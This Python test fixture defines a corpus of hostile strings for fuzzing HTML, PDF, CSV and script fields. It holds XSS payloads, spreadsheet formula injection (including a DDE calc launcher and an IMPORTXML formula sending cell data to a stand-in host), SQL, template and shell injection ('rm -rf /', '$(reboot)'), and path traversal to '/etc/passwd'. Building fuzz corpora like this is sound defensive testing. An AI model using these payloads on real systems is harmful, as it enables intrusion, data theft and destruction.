"""A shared corpus of hostile strings for every text field (HTML, PDF markup, CSV, scripts)."""

from __future__ import annotations

MARKUP = [
    "<script>alert(1)</script>", "<SCRIPT SRC=http://example.invalid/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
    '<img src="http://example.invalid/track.png">', "<svg onload=alert(1)>", "<iframe src=javascript:alert(1)>",
    '"><script>alert(document.cookie)</script>', "'><img src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<style>*{display:none}</style>",
    "<link rel=stylesheet href=http://example.invalid/x.css>", "<meta http-equiv=refresh content=0;url=http://example.invalid>",
    "<base href=http://example.invalid/>", "<form action=http://example.invalid><button>go</button></form>",
    "<object data=http://example.invalid/x.swf>", "<embed src=http://example.invalid/x>",
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "<!--", "-->", "<![CDATA[x]]>", "]]>",
    "&lt;script&gt;", "&amp;&amp;", "&#x3C;script&#x3E;", "&#60;b&#62;", "%3Cscript%3E", "\\u003cscript\\u003e",
]
PDF_MARKUP = [
    "<b>bold</b>", "<i>italic</i>", '<font color="red">red</font>', "<font size=40>big</font>", "<para>x</para>",
    '<img src="http://example.invalid/x.png"/>', '<img src="/etc/passwd"/>', "<a href='http://example.invalid'>l</a>",
    "<br/><br/><br/>", "<strike>s</strike>", "<super>2</super>", "<seq id='x'/>", "<onDraw name=x/>", "& < > \" '",
    "&", "<", ">", "&nbsp;", "&bogus;", "<unknowntag>", "</para>", "<font name=Courier>c</font>",
]
SPREADSHEET = [
    "=1+1", '=HYPERLINK("http://example.invalid","click")', "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
    "=cmd|' /C calc'!A0", "=IMPORTXML(CONCAT(\"http://example.invalid/?\",A1),\"//a\")", "=2+5+cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@cmd", '"=1"', ",=1", ";=1",
]
TEMPLATES_AND_CODE = [
    "{{7*7}}", "{% for x in range(9999999) %}x{% endfor %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{config}}",
    "'; DROP TABLE states; --", "\" OR 1=1 --", "1; SELECT pg_sleep(5)", "%s%s%s%s%n", "../../../../etc/passwd",
    "..\\..\\windows\\win.ini", "\\", "\\\\", "`rm -rf /`", "$(reboot)", "|| true",
]
TEXT_AND_SCRIPTS = [
    "Сергей Лавров", "Türkiye", "ភ្នំពេញ", "وزير الخارجية", "עברית", "日本語のテキスト", "Ελληνικά", "हिन्दी", "🇮🇩 🗳️ ✅",
    "\u202egnp.exe", "abc\u202edef", "\u200b\u200c\u200d", "\ufeffBOM", "Zalgo Z̷̧͓̿a̵̡̛l̸g̶o̴", "a\u0301", "ﬁ ligature",
    "\u00a0non-breaking\u00a0spaces", "tab\tinside", "line one\nline two", "line one\r\nline two", "trailing spaces   ",
    "   leading spaces", "x" * 500, "word " * 2000, "Aa" * 10000,
]
CONTROL = ["NUL\x00byte", "bell\x07", "escape\x1b[31mred", "\x08backspace", "vertical\x0btab", "form\x0cfeed"]

CORPUS = MARKUP + PDF_MARKUP + SPREADSHEET + TEMPLATES_AND_CODE + TEXT_AND_SCRIPTS
ONE_MEGABYTE = "M" * (1024 * 1024)

assert len(CORPUS) + len(CONTROL) >= 100, len(CORPUS)
